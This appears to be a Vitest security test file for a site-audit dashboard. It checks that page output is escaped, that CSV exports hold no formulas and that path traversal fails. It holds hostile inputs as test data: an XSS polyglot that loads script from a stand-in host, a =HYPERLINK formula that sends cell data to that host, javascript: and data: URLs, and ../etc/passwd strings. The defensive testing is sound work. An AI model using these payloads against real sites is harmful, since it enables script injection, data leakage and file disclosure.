/** Everything that comes from an audited site or from another user is text, wherever it is shown or written. */
import * as cheerio from 'cheerio';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { routes } from '../../src/dashboard/routes.js';
import { findingOf, judgedReport } from '../support/judged-report.js';
import { openTestOffice, signedIn, type TestOffice, type Visitor } from '../support/office.js';
import { textOfDocx } from '../support/read-docx.js';
import { arrive, findingIds, withSites } from '../support/rectification-office.js';

const EVIL =
  '"\'></title></textarea></style><script src=//x.example></script><img src=x onerror=pwn()><pwned>&lt;b>{{7*7}}${7*7}';
const FORMULA = '=HYPERLINK("http://x.example/"&A1,"点我")';
const AT = '2026-11-20T02:00:00.000Z';

let test: TestOffice;
let admin: Visitor;
let unit: Visitor;
const ids: Record<string, string> = {};

beforeAll(async () => {
  const { profile } = judgedReport({
    guide: { value: 'failed' },
    budget: { value: 'failed' },
    photo: { value: 'cantTell' },
  });
  test = await openTestOffice({ profile: () => Promise.resolve(profile) });
  const { store, office } = test;
  await withSites(store);
  await store.db
    .updateTable('sites')
    .set({ name: `${EVIL}县`, url: 'javascript:pwn()' })
    .where('id', '=', 'qinghe')
    .execute();
  const evil = { message: EVIL, column: EVIL, unit: EVIL, url: 'javascript:pwn()', code: EVIL };
  const evidence = [
    {
      url: 'data:text/html,<script>pwn()</script>',
      capturedAt: AT,
      sha256: 'a'.repeat(64),
      quote: EVIL,
      selector: EVIL,
      record: EVIL,
    },
  ];
  await arrive({ store, blobs: office.blobs }, 'r1', AT, {
    guide: {
      value: 'failed',
      findings: [findingOf('1', 'failed', { ...evil, evidence, messageEn: EVIL, data: { where: EVIL } })],
    },
    budget: {
      value: 'failed',
      findings: [findingOf('2', 'failed', { message: FORMULA, unit: FORMULA, column: '+1', url: '@SUM(1)' })],
    },
    photo: { value: 'cantTell', reason: EVIL, findings: [findingOf('3', 'cantTell', evil)] },
  });
  admin = await signedIn(test, 'admin', [], EVIL);
  unit = await signedIn(test, 'office', ['qinghe'], EVIL);
  await admin.post('/rectification/notices', {
    finding: Object.values(await findingIds(store)),
    per: 'site',
    title: EVIL.slice(0, 100),
  });
  ids['notice'] = (await store.db.selectFrom('notices').select('id').executeTakeFirstOrThrow()).id;
  const notice = `/rectification/notices/${ids['notice']}`;
  const steps = [
    await admin.post(`${notice}/issue`, {
      version: '1',
      dueOn: '2026-12-04',
      number: EVIL.slice(0, 80),
      recipient: EVIL.slice(0, 100),
    }),
    await unit.post(`${notice}/reply`, {
      what: 'hand-in',
      ...Object.fromEntries(
        Object.values(await findingIds(store)).flatMap((id) => [
          [`claim-${id}`, 'disagrees'],
          [`note-${id}`, id.length % 2 ? EVIL : `${EVIL}\n${FORMULA}`],
        ]),
      ),
    }),
    await unit.post('/sites/qinghe/appeal?run=r1&rule=guide', { reason: EVIL }),
  ];
  expect(
    await Promise.all(
      steps.map(async (step) => (step.status === 303 ? 303 : [step.status, (await step.text()).slice(-900)])),
    ),
  ).toEqual([303, 303, 303]);
  for (const [name, table] of [
    ['item', 'review_items'],
    ['appeal', 'appeals'],
    ['finding', 'findings'],
  ] as const)
    ids[name] = (await store.db.selectFrom(table).select('id').executeTakeFirstOrThrow()).id;
});
afterAll(() => test.drop());

const pathOf = (path: string): string =>
  path
    .replace(/:site/g, 'qinghe')
    .replace(/:run/g, 'r1')
    .replace(/:rule/g, 'guide')
    .replace(/:user/g, admin.id)
    .replace(/:(\w+)/g, (_, name: string) => encodeURIComponent(ids[name] ?? EVIL));
const pages = routes.filter(({ method, path }) => method === 'GET' && !path.startsWith('/assets'));

/** What in a page would do something of itself or lead out of the web. */
function livelyIn(html: string): string[] {
  const $ = cheerio.load(html);
  const found: string[] = [];
  for (const element of $('*').toArray()) {
    if (!('attribs' in element)) continue;
    if (/^(?:pwned|object|embed|base)$/.test(element.name)) found.push(`<${element.name}>`);
    for (const [name, value] of Object.entries(element.attribs)) {
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(`${element.name} ${name}`);
      if (
        /^(?:href|src|action|formaction)$/.test(name) &&
        !/^(?:\/(?!\/)|\?|#|https?:\/\/|mailto:)/.test(value.trim()) &&
        value !== ''
      )
        found.push(`${element.name} ${name}=${value}`);
      if (name === 'src' && !/^\/(?:assets|archive)\//.test(value)) found.push(`${element.name} src=${value}`);
    }
  }
  return found;
}

it('没有一页把网站或别人写的文字当成标记、脚本或链接', async () => {
  let shown = 0;
  const english = `?lang=en&run=r1&rule=guide&q=${encodeURIComponent(EVIL)}&state=all`;
  for (const [who, query] of [
    [admin, english],
    [unit, ''],
  ] as const)
    for (const { path } of pages) {
      const response = await who.get(pathOf(path) + query);
      expect([path, query, response.status < 500]).toEqual([path, query, true]);
      if (!response.headers.get('content-type')?.startsWith('text/html') || path.includes('/report')) continue;
      const html = await response.text();
      expect([path, query, livelyIn(html)]).toEqual([path, query, []]);
      if (html.includes('&lt;pwned&gt;')) shown += 1;
    }
  // The texts were really there to be seen.
  expect(shown).toBeGreaterThan(20);
  expect(test.faults).toEqual([]);
});

it('导出的表格里没有公式，文件名和信头里没有换行；公文里是原文', async () => {
  let files = 0;
  for (const { path } of pages) {
    const response = await admin.get(`${pathOf(path)}?format=csv`);
    const name = response.headers.get('content-disposition') ?? '';
    // eslint-disable-next-line no-control-regex -- that is what is looked for
    expect(/[\u0000-\u001f]/.test(name)).toBe(false);
    if (response.status !== 200 || !response.headers.get('content-type')?.startsWith('text/csv')) continue;
    files += 1;
    for (const row of parse(await response.text(), { bom: true, relax_column_count: true }))
      for (const cell of row)
        expect([path, /^\s*[=+\-@]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell) ? cell : '']).toEqual([path, '']);
  }
  expect(files).toBeGreaterThan(5);
  const letter = await admin.get(`/rectification/notices/${ids['notice']}/letter`);
  expect(await textOfDocx(new Uint8Array(await letter.arrayBuffer()))).toContain('<img src=x onerror=pwn()>');
});

it('参数里的 .. 和绝对路径到不了文件，也不出错', async () => {
  const away = encodeURIComponent('../../../../etc/passwd');
  const query = `run=${away}&rule=${away}&from=${away}&to=${away}&list=${away}&site=${away}&after=${away}`;
  const addresses = pages.flatMap(({ path }) => [
    path.replace(/:site/g, 'qinghe').replace(/:\w+/g, away),
    path.replace(/:site/g, 'qinghe').replace(/:run/g, 'r1').replace(/:\w+/g, away),
    `${pathOf(path)}?${query}`,
  ]);
  for (const address of new Set(addresses.filter((one) => one.includes(away)))) {
    const response = await admin.get(address);
    expect([address, response.status < 500, (await response.text()).includes('root:')]).toEqual([address, true, false]);
  }
  expect(test.faults).toEqual([]);
});
